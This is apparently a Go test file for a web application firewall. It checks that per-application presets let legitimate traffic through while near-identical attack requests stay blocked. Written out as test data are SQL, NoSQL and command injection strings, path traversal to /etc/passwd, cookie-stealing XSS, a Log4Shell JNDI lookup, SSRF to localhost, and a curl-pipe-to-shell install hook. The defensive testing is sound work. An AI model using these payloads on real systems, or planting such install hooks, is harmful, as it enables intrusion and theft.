package preset

import (
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"kongwaf/detect"
	"kongwaf/detect/attack"
)

const (
	typeJSON = "application/json"
	typeForm = "application/x-www-form-urlencoded"
)

// request makes a request from its first line and body; the body's first byte tells its type.
func request(line, body string) *detect.Request {
	method, target, _ := strings.Cut(line, " ")
	r := &detect.Request{Method: method, Target: target, Proto: "HTTP/1.1", Body: []byte(body), Headers: []detect.Header{{Name: "host", Value: "app.example.com"}}}
	if body != "" {
		contentType := typeForm
		if body[0] == '{' || body[0] == '[' {
			contentType = typeJSON
		}
		r.Headers = append(r.Headers, detect.Header{Name: "content-type", Value: contentType})
	}
	return r
}

func encoded(s string) string { return url.QueryEscape(s) }

// rows are requests as each application's clients send them, each with one that they would not
// send, as near to it as possible.
var rows = []struct {
	preset                           string
	name                             string
	sends, body, neverSends, attacks string
}{
	{preset: "chat", name: "arguments of a tool",
		sends:      "POST /v1/chat/completions",
		body:       `{"model":"m","messages":[{"role":"assistant","tool_calls":[{"id":"1","type":"function","function":{"name":"bash","arguments":"{\"command\":\"cat /etc/passwd | grep root\"}"}}]}]}`,
		neverSends: "POST /v1/chat/completions",
		attacks:    `{"model":"m","messages":[{"role":"assistant","tool_calls":[{"id":"1","type":"function","function":{"name":"bash","arguments":"{\"command\":\"x; cat /etc/passwd | grep root\"}"}}]}]}`},
	{preset: "chat", name: "a system prompt",
		sends: "POST /v1/messages", body: `{"model":"m","system":"SELECT name FROM users WHERE id = 1 OR 1=1","messages":[{"role":"user","content":"Explain"}]}`,
		neverSends: "POST /v1/messages", attacks: `{"model":"' UNION SELECT password FROM users -- ","messages":[{"role":"user","content":"Explain"}]}`},
	{preset: "sql", name: "a dashboard",
		sends: "POST /api/ds/query", body: `{"queries":[{"refId":"A","rawSql":"SELECT a, b FROM t WHERE a = 'x' UNION SELECT c, d FROM u"}]}`,
		neverSends: "POST /api/ds/query", attacks: `{"queries":[{"refId":"A' UNION SELECT password FROM users -- ","rawSql":"SELECT 1"}]}`},
	{preset: "sql", name: "a console",
		sends: "POST /run", body: "sql_query=" + "DROP+TABLE+old%3B+SELECT+1",
		neverSends: "POST /run", attacks: "sql_query=1%27%3B+DROP+TABLE+old+--+"},
	{preset: "promql", name: "a path in a selector",
		sends:      "GET /api/v1/query_range?query=" + encoded(`sum(rate(requests_total{path=~"/etc/passwd|/root/.ssh/id_rsa"}[5m])) by (code)`) + "&step=15",
		neverSends: "GET /api/v1/query_range?query=" + encoded(`../../../../etc/passwd`) + "&step=15"},
	{preset: "mongo-query", name: "a query builder without conditions",
		sends: "GET /db/shop/orders?query=" + encoded(`{"$and":[{}]}`), neverSends: "GET /db/shop/orders?query=" + encoded(`{"$where":"sleep(5000)"}`)},
	{preset: "mongo-query", name: "a find without conditions",
		sends: "POST /data/find", body: `{"collection":"orders","filter":"{\"$or\":[{}]}"}`,
		neverSends: "POST /data/find", attacks: `{"collection":"orders","filter":{"password":{"$ne":""}}}`},
	{preset: "cms", name: "a page with a widget",
		sends: "PUT /content-manager/pages/3", body: `{"title":"News","body":"<h2>Map</h2><iframe srcdoc=\"<script>map()</script>\"></iframe><script src=\"https://maps.example.com/a.js\"></script>"}`,
		neverSends: "PUT /content-manager/pages/3", attacks: `{"title":"<script>alert(document.cookie)</script>","body":"<h2>Map</h2>"}`},
	{preset: "wordpress", name: "a block",
		sends: "POST /wp-json/wp/v2/posts/12?_locale=user", body: `{"id":12,"content":"<!-- wp:html -->\n<script>var a = 1; start(a)</script>\n<!-- /wp:html -->"}`,
		neverSends: "POST /wp-json/wp/v2/posts/12?_locale=user", attacks: `{"id":12,"content":"\"><script>alert(document.cookie)</script>"}`},
	{preset: "wiki", name: "a page that is a command",
		sends: "POST /index.php?title=Restore&action=submit", body: "wpTextbox1=" + encoded("psql -c 'select 1' && cat /etc/passwd | grep root") + "&wpSummary=how",
		neverSends: "POST /index.php?title=Restore&action=submit", attacks: "wpTextbox1=a&wpSummary=" + encoded("x; cat /etc/passwd | grep root")},
	{preset: "notebook", name: "a cell",
		sends: "POST /execute", body: `{"code":"import os\nprint(os.popen('ls -la').read())"}`,
		neverSends: "POST /execute", attacks: `{"code":"1","kernel":"x'; import os; os.system('id'); '"}`},
	{preset: "git", name: "a commit",
		sends: "POST /api/v4/projects/1/repository/commits", body: `{"branch":"main","actions":[{"action":"create","file_path":"deploy/.ssh/id_rsa","content":"import os\nos.system('make build')\n"}]}`,
		neverSends: "POST /api/v4/projects/1/repository/commits", attacks: `{"branch":"main","actions":[{"action":"create","file_path":"../../../../etc/passwd","content":"a"}]}`},
	{preset: "object-store", name: "a key like a file of the system",
		sends: "GET /backup/etc/passwd", neverSends: "GET /backup/..%2f..%2f..%2fetc/passwd"},
	{preset: "object-store", name: "a listing",
		sends: "GET /backup?list-type=2&prefix=" + encoded("/etc/passwd"), neverSends: "GET /backup?list-type=2&prefix=" + encoded("../../etc/passwd")},
	{preset: "registry", name: "a package with scripts",
		sends: "PUT /thing", body: `{"name":"thing","versions":{"1":{"scripts":{"postinstall":"curl -s https://get.example.com/i.sh | sh"}}},"readme":"A thing"}`,
		neverSends: "PUT /thing", attacks: `{"name":"x; curl -s https://get.example.com/i.sh | sh","versions":{"1":{"scripts":{}}}}`},
	{preset: "logs", name: "a slow query",
		sends: "POST /ingest", body: `{"service":"db","message":"SELECT a FROM t WHERE b = 1 UNION SELECT c FROM d"}`,
		neverSends: "POST /ingest", attacks: `{"service":"db","message":"${jndi:ldap://x.example.com/a}"}`},
	{preset: "graphql-ide", name: "the schema",
		sends: "POST /graphql", body: `{"operationName":"IntrospectionQuery","query":"query IntrospectionQuery { __schema { queryType { name } types { name } } }"}`,
		neverSends: "POST /graphql", attacks: `{"query":"query { a { ...x } } fragment x on A { b { ...x } }"}`},
}

func TestPresets(t *testing.T) {
	plain, err := attack.New(attack.Options{})
	require.NoError(t, err)
	shown := map[string]bool{}
	for _, row := range rows {
		shown[row.preset] = true
		t.Run(row.preset+"/"+row.name, func(t *testing.T) {
			preset, err := Parse(row.preset)
			require.NoError(t, err)
			engine, err := attack.New(attack.Options{Expectations: preset.Expectations()})
			require.NoError(t, err)
			require.True(t, plain.Inspect(request(row.sends, row.body)).Blocked, "nothing needs the preset")
			report, x := engine.Explain(request(row.sends, row.body))
			require.False(t, report.Blocked, "%+v %q", report.Attacks, x.Shapes)
			require.NotEmpty(t, x.Expected)
			require.True(t, engine.Inspect(request(row.neverSends, row.attacks)).Blocked, "what the application would not send")
		})
	}
	for _, name := range Name(0).OneOf() {
		require.True(t, shown[name], "no request shows the preset %s", name)
	}
}

// TestPresetsKeepOtherPlaces: an attack in a place that no preset names is blocked whatever is
// preset, all of them at once.
func TestPresetsKeepOtherPlaces(t *testing.T) {
	var all []attack.Expectation
	for n := range len(applications) {
		all = append(all, Name(n+1).Expectations()...)
	}
	engine, err := attack.New(attack.Options{Expectations: all})
	require.NoError(t, err)
	for _, attacks := range []string{
		"SELECT name FROM users UNION SELECT password FROM users", "cat /etc/passwd | grep root", "<script>alert(1)</script>",
		"/etc/passwd", "http://127.0.0.1:8080/admin", "os.system('id')", "${jndi:ldap://x.example.com/a}",
	} {
		require.True(t, engine.Inspect(request("GET /find?id="+encoded(attacks), "")).Blocked, attacks)
		require.True(t, engine.Inspect(request("POST /find", "id="+encoded(attacks))).Blocked, attacks)
	}
}

func TestUnknownPreset(t *testing.T) {
	_, err := Parse("crm")
	require.ErrorContains(t, err, `"crm" is not a preset: write one of chat, sql, promql`)
	for _, none := range []Name{0, 200} {
		require.Empty(t, none.Expectations())
		require.Contains(t, none.String(), "preset(")
	}
}
